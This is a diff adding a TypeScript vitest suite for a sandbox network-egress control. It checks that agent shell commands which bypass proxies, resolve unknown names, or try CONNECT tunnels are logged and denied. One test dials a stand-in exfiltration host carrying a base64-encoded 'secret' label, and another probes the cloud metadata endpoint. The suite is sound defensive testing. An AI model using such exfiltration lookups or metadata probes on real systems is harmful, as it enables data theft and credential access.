@@ -1,0 +1,111 @@
+import type { StepOutcome } from '@clawhold/spec';
+import { verifies } from '@clawhold/testkit';
+import { expect, test, vi } from 'vitest';
+import { type Scene, startScene } from '../testing/scene.ts';
+
+vi.setConfig({ testTimeout: 60_000 });
+
+/** Dials without a proxy, says `ping`, prints what comes back or why nothing did. */
+const dial = (host: string, port: number): string =>
+  `node -e 's = net.connect(${port}, "${host}", () => s.write("ping")); s.on("error", (e) => console.log(e.code)).on("data", (d) => console.log(String(d)))'`;
+
+/** Asks without a proxy, as a program does that knows none. */
+const fetchDirectly = (url: string, method = 'GET'): string =>
+  `NODE_USE_ENV_PROXY=0 node -e 'fetch("${url}", { method: "${method}" }).then(async (a) => console.log(a.status, a.headers.get("x-clawhold-decision"), await a.text()), (e) => console.log(e.cause.code))'`;
+
+const outputOf = (outcome: StepOutcome): string => (outcome.kind === 'done' ? outcome.output.trim() : outcome.kind);
+
+async function run(scene: Scene, command: string): Promise<string> {
+  return outputOf((await scene.call('shell.exec', { command })).outcome);
+}
+
+const tried = (scene: Scene): readonly string[] =>
+  scene.plane.timeline.flatMap((body) =>
+    body.kind === 'egress' ? [`${body.method} ${body.url} ${body.decision}`] : [],
+  );
+
+test(
+  verifies('egress.capture', 'in a sandbox: a program that ignores proxies is decided on as one that does not'),
+  async () => {
+    const scene = await startScene();
+    await scene.open();
+    expect(await run(scene, dial('raw.local', 25))).toBe('pong');
+    expect(await run(scene, dial('raw.local', 26))).toBe('ECONNRESET');
+    expect(await run(scene, fetchDirectly('http://finance.local/accounts'))).toBe('201 allowed {"id":7}');
+    expect(await run(scene, fetchDirectly('http://finance.local/other'))).toMatch(/^403 denied /);
+    expect(scene.received).toEqual(['GET /accounts']);
+    expect(scene.tunnels()).toBe(1);
+    await vi.waitFor(() =>
+      expect(tried(scene)).toEqual([
+        'TCP raw.local:25 allow',
+        'TCP raw.local:26 deny',
+        'GET http://finance.local/accounts allow',
+        'GET http://finance.local/other deny',
+      ]),
+    );
+  },
+);
+
+test(
+  verifies('egress.policy-names', 'in a sandbox: a name that the policy does not know does not exist, and is told of'),
+  async () => {
+    const scene = await startScene();
+    await scene.open();
+    const secret = 'c2VjcmV0.exfiltrated.example';
+    expect(await run(scene, dial(secret, 443))).toBe('ENOTFOUND');
+    expect(await run(scene, dial(secret, 443))).toBe('ENOTFOUND');
+    expect(await run(scene, dial('metadata.google.internal', 80))).toBe('ENOTFOUND');
+    await vi.waitFor(() =>
+      expect(tried(scene)).toEqual([`DNS ${secret.toLowerCase()} deny`, 'DNS metadata.google.internal deny']),
+    );
+  },
+);
+
+test(
+  verifies('egress.policy-names', 'in a sandbox: an address keeps its meaning when the policy changes'),
+  async () => {
+    const scene = await startScene();
+    await scene.open();
+    const look = `node -e 'require("dns").lookup("raw.local", (e, a) => console.log(e?.code ?? a))'`;
+    const address = await run(scene, look);
+    expect(address).toMatch(/^198\.19\./);
+    expect(await run(scene, dial(address, 25))).toBe('pong');
+    await scene.ask('publishPolicy', {
+      ceiling:
+        'version: 1\nname: ceiling\nservices: { raw.local: { socket: raw.sock }, new.local: { socket: raw.sock } }\n',
+      agents: {
+        worker: 'version: 1\nname: worker\nnetwork_policies: { n: { endpoints: [{ host: new.local, port: 25 }] } }\n',
+      },
+    });
+    expect(await run(scene, look)).toBe('ENOTFOUND');
+    expect(await run(scene, dial('new.local', 25))).toBe('pong');
+    // Held from before: it still means raw.local, which is not allowed any more.
+    expect(await run(scene, dial(address, 25))).toBe('ECONNRESET');
+    expect(scene.tunnels()).toBe(2);
+  },
+);
+
+test(
+  verifies(
+    'egress.capture',
+    'in a sandbox: addresses that stand for nothing, real ones, and the listener itself lead nowhere',
+  ),
+  async () => {
+    const scene = await startScene();
+    await scene.open();
+    for (const address of ['198.19.0.1', '198.19.77.7', '198.18.0.2']) {
+      const port = address === '198.18.0.2' ? 1 : 25;
+      expect(await run(scene, dial(address, port))).toBe('ECONNRESET');
+    }
+    for (const address of ['93.184.216.34', '127.0.0.1', '10.0.0.1', '198.18.0.3'])
+      expect(await run(scene, dial(address, 25))).toBe('ECONNREFUSED');
+    // Neither is it a proxy, nor does the proxy know these addresses.
+    await run(scene, dial('raw.local', 25));
+    const connect = (port: number, host: string, target: string): string =>
+      `node -e 's = net.connect(${port}, "${host}"); s.on("error", (e) => console.log(e.code)).on("data", (d) => console.log(String(d).split("\\r")[0])); s.write("CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n")'`;
+    expect(await run(scene, connect(1, '198.18.0.2', 'raw.local:25'))).toBe('ECONNRESET');
+    expect(await run(scene, connect(3128, '127.0.0.1', '198.19.0.1:25'))).toMatch(/^HTTP\/1.1 403/);
+    expect(await run(scene, connect(80, 'finance.local', 'raw.local:25'))).toMatch(/^HTTP\/1.1 400/);
+    expect(scene.tunnels()).toBe(1);
+  },
+);
